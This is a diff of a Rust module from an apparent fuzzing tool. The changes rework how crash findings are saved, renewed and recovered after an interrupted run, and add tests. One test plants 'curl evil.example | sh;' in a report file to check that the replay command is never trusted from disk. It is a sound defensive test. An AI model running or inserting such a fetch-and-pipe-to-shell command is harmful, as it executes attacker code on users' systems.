@@ -6,18 +6,20 @@
 use std::io;
 use std::path::{Path, PathBuf};
 
+use super::kept::Index;
 use super::report::{Described, Report};
+use crate::campaign::manifest::SETUP;
 use crate::disk;
 
-/// Writes a finding into `findings` unless one of the same kind and signature is there. Says where it
-/// lies and whether it is new. `report.input` and `report.replay` are set to where the input comes to
-/// lie and to `hitmap` followed by its path; `flags` are for `hitmap replay` where no campaign tells them.
-/// `setup` is the campaign's manifest, which goes along wherever the finding is copied.
+/// Writes a finding unless `index` has one of the same kind and signature. Says where it lies and whether it is
+/// new. `report.input` and `report.replay` are set to where the input comes to lie and to `hitmap` followed by its
+/// path; `flags` are for `hitmap replay` where no campaign tells them. `setup` is the campaign's manifest, which
+/// goes along wherever the finding is copied.
 ///
 /// # Errors
 /// What the file system reports.
 pub fn save(
-    findings: &Path,
+    index: &mut Index,
     mut described: Described,
     input: &[u8],
     coverage: Option<&[u8]>,
@@ -26,24 +28,26 @@ pub fn save(
     setup: &[u8],
 ) -> io::Result<(PathBuf, bool)> {
     let report = &mut described.report;
-    let folder = findings.join(format!("{}-{}", report.kind, report.signature));
-    if folder.exists() {
+    if let Some(folder) = index.find(report) {
         return Ok((folder, false));
     }
+    let folder = index.folder_of(report);
     report.input = folder.join("input").to_string_lossy().into_owned();
     report.input_len = input.len();
     report.replay = replay(hitmap, &report.input);
-    let making = disk::new_folder(findings)?;
+    let making = disk::new_folder(index.findings())?;
     let write = |name: &str, content: &[u8]| disk::replace(&making.join(name), content);
+    // First, because of all that a killed engine leaves it is what cannot be made again.
     write("input", input)?;
-    write("report.json", &serde_json::to_vec_pretty(report).map_err(io::Error::other)?)?;
     write("traceback.txt", described.traceback.as_bytes())?;
-    write("setup.json", setup)?;
+    write(SETUP, setup)?;
     let test = regression_test(report, &python_string(&report.harness), flags);
     write(&format!("test_{}.py", report.signature), test.as_bytes())?;
     if let Some(coverage) = coverage {
         write("coverage.hitmap", coverage)?;
     }
+    // Last, because it says that the rest is there.
+    write("report.json", &serde_json::to_vec_pretty(report).map_err(io::Error::other)?)?;
     match std::fs::rename(&making, &folder) {
         Ok(()) => Ok((folder, true)),
         Err(_) if folder.exists() => {
@@ -54,46 +58,52 @@ pub fn save(
     }
 }
 
-/// Every finding of a campaign, by folder name, with the paths of where it lies now: campaigns are copied
-/// and renamed. What `hitmap` says runs it again is made here and never taken from the file, which may be
-/// somebody else's. Folders without a readable report are passed over; [`damaged`] names them.
+/// Replaces what is told of a finding that stays where it is.
 ///
 /// # Errors
-/// What the file system reports of the folder itself; that it is not there is no error.
-pub fn all(findings: &Path, hitmap: &str) -> io::Result<Vec<Report>> {
-    Ok(folders(findings)?.iter().filter_map(|folder| read(folder, hitmap).ok()).collect())
-}
-
-/// What is wrong with findings that are not listed, a sentence each.
-pub fn damaged(findings: &Path) -> Vec<String> {
-    let folders = folders(findings).unwrap_or_default();
-    let errors = folders.iter().filter_map(|folder| read(folder, "").err());
-    errors
-        .map(|error| format!("a finding is not listed: {error}; move its folder away, and it can be found anew"))
-        .collect()
-}
-
-fn folders(findings: &Path) -> io::Result<Vec<PathBuf>> {
-    let entries = match std::fs::read_dir(findings) {
-        Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(Vec::new()),
-        entries => entries?,
-    };
-    let mut folders: Vec<PathBuf> = entries.filter_map(|e| Some(e.ok()?.path())).collect();
-    folders.retain(|folder| !folder.file_name().is_some_and(|n| n.to_string_lossy().starts_with('.')));
-    folders.sort();
-    Ok(folders)
-}
-
-fn read(folder: &Path, hitmap: &str) -> io::Result<Report> {
+/// What the file system reports.
+pub fn renew(folder: &Path, described: &Described, coverage: Option<&[u8]>, flags: &[String]) -> io::Result<()> {
+    let report = &described.report;
+    let files = std::fs::read_dir(folder).map_err(disk::at(folder))?;
+    let mut names = files.flatten().map(|entry| entry.file_name().to_string_lossy().into_owned());
+    if !names.any(|name| name.starts_with("test_") && name.ends_with(".py")) {
+        let test = regression_test(report, &python_string(&report.harness), flags);
+        disk::replace(&folder.join(format!("test_{}.py", report.signature)), test.as_bytes())?;
+    }
+    if !described.traceback.is_empty() {
+        disk::replace(&folder.join("traceback.txt"), described.traceback.as_bytes())?;
+    }
+    if let Some(coverage) = coverage {
+        disk::replace(&folder.join("coverage.hitmap"), coverage)?;
+    }
     let path = folder.join("report.json");
-    let text = disk::read(&path, disk::LONGEST_TEXT)?;
-    let mut report: Report = serde_json::from_slice(&text).map_err(|e| disk::at(&path)(e.into()))?;
-    report.input = folder.join("input").to_string_lossy().into_owned();
-    report.replay = replay(hitmap, &report.input);
-    Ok(report)
+    if path.is_dir() {
+        std::fs::remove_dir(&path).map_err(disk::at(&path))?;
+    }
+    // Last, because it says that the rest is there.
+    disk::replace(&path, &serde_json::to_vec_pretty(report).map_err(io::Error::other)?)
 }
 
-fn replay(hitmap: &str, input: &str) -> String {
+/// Finishes what a killed engine left of a finding that it was writing: a whole one gets its name. Of any other the
+/// input is given, as far as it was written, to be run again.
+///
+/// # Errors
+/// What the file system reports.
+pub fn recover(index: &mut Index, left: &Path) -> io::Result<Option<Vec<u8>>> {
+    let input = disk::read(&left.join("input"), disk::LONGEST_INPUT).unwrap_or_default();
+    let report = super::kept::read(left).ok().filter(|report| report.input_len == input.len());
+    match report {
+        Some(report) if index.find(&report).is_none() => {
+            std::fs::rename(left, index.folder_of(&report))?;
+            Ok(None)
+        }
+        Some(_) => std::fs::remove_dir_all(left).map(|()| None),
+        None => Ok(Some(input).filter(|input| !input.is_empty())),
+    }
+}
+
+/// The command that runs an input again.
+pub fn replay(hitmap: &str, input: &str) -> String {
     format!("{hitmap} replay {}", shell_quote(input))
 }
 
@@ -128,21 +138,23 @@ pub fn regression_test(report: &Report, harness: &str, flags: &[String]) -> Stri
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::finding::kept::all;
 
     fn described(signature: &str) -> Described {
         let report = Report { kind: "signal".into(), signature: signature.into(), ..Report::default() };
         Described { report, traceback: "t".into() }
     }
 
+    fn keep(findings: &Path, signature: &str, input: &[u8]) -> (PathBuf, bool) {
+        save(&mut Index::new(findings.into()), described(signature), input, None, "hitmap", &[], b"{}").unwrap()
+    }
+
     #[test]
     fn the_first_finder_wins() {
         let folder = tempfile::tempdir().unwrap();
-        let (path, new) = save(folder.path(), described("aa"), b"one", None, "hitmap", &[], b"{}").unwrap();
+        let (path, new) = keep(folder.path(), "aa", b"one");
         assert!(new);
-        assert_eq!(
-            save(folder.path(), described("aa"), b"two", None, "hitmap", &[], b"{}").unwrap(),
-            (path.clone(), false)
-        );
+        assert_eq!(keep(folder.path(), "aa", b"two"), (path.clone(), false));
         assert_eq!(std::fs::read(path.join("input")).unwrap(), b"one");
         let all = all(folder.path(), "hitmap").unwrap();
         assert_eq!(all.len(), 1);
@@ -153,7 +165,7 @@ mod tests {
     fn a_campaign_that_was_renamed_names_its_inputs_where_they_are() {
         let folder = tempfile::tempdir().unwrap();
         let (before, after) = (folder.path().join("a"), folder.path().join("b c"));
-        save(&before, described("aa"), b"one", None, "hitmap", &[], b"{}").unwrap();
+        keep(&before, "aa", b"one");
         std::fs::rename(before, &after).unwrap();
         let input = after.join("signal-aa/input").to_string_lossy().into_owned();
         let found = all(&after, "hitmap").unwrap().remove(0);
@@ -163,7 +175,7 @@ mod tests {
     #[test]
     fn the_command_is_ours_whatever_a_report_says() {
         let folder = tempfile::tempdir().unwrap();
-        let (path, _) = save(folder.path(), described("aa"), b"one", None, "hitmap", &[], b"{}").unwrap();
+        let (path, _) = keep(folder.path(), "aa", b"one");
         let report = path.join("report.json");
         let text = std::fs::read_to_string(&report).unwrap();
         std::fs::write(&report, text.replace("hitmap replay", "curl evil.example | sh;")).unwrap();
@@ -172,14 +184,38 @@ mod tests {
     }
 
     #[test]
-    fn half_written_findings_are_not_listed() {
+    fn a_finding_that_got_another_signature_is_not_found_anew() {
         let folder = tempfile::tempdir().unwrap();
-        std::fs::create_dir(folder.path().join(".making-1-aa")).unwrap();
-        std::fs::create_dir(folder.path().join("signal-bb")).unwrap();
-        assert_eq!(all(folder.path(), "hitmap").unwrap(), []);
-        assert_eq!(all(&folder.path().join("absent"), "hitmap").unwrap(), []);
-        let said = damaged(folder.path());
-        assert!(said.len() == 1 && said[0].contains("signal-bb/report.json: No such file"), "{said:?}");
+        let (path, _) = keep(folder.path(), "aa", b"one");
+        renew(&path, &described("bb"), None, &[]).unwrap();
+        assert_eq!(keep(folder.path(), "bb", b"two"), (path.clone(), false));
+        assert_eq!(all(folder.path(), "hitmap").unwrap()[0].signature, "bb");
+        assert!(path.join("test_aa.py").exists() && !path.join("test_bb.py").exists());
+    }
+
+    /// What becomes of a finding that was being written when its engine was killed.
+    fn check(then: impl Fn(&Path), expect: (Option<&[u8]>, &[&str])) {
+        let folder = tempfile::tempdir().unwrap();
+        let (path, _) = keep(folder.path(), "aa", b"one");
+        let left = folder.path().join(".making-1-aa");
+        std::fs::rename(path, &left).unwrap();
+        then(&left);
+        let input = recover(&mut Index::new(folder.path().into()), &left).unwrap();
+        let names: Vec<String> = all(folder.path(), "").unwrap().into_iter().map(|found| found.signature).collect();
+        assert_eq!(
+            (input.as_deref(), names.iter().map(String::as_str).collect::<Vec<_>>()),
+            (expect.0, expect.1.to_vec())
+        );
+    }
+
+    #[test]
+    fn what_a_killed_engine_was_writing_is_not_lost() {
+        check(|_| (), (None, &["aa"]));
+        check(|left| std::fs::write(left.join("report.json"), "{").unwrap(), (Some(b"one"), &[]));
+        check(|left| std::fs::remove_file(left.join("report.json")).unwrap(), (Some(b"one"), &[]));
+        check(|left| std::fs::write(left.join("input"), "on").unwrap(), (Some(b"on"), &[]));
+        check(|left| std::fs::remove_dir_all(left).unwrap(), (None, &[]));
+        check(|left| drop(keep(left.parent().unwrap(), "aa", b"two")), (None, &["aa"]));
     }
 
     #[test]
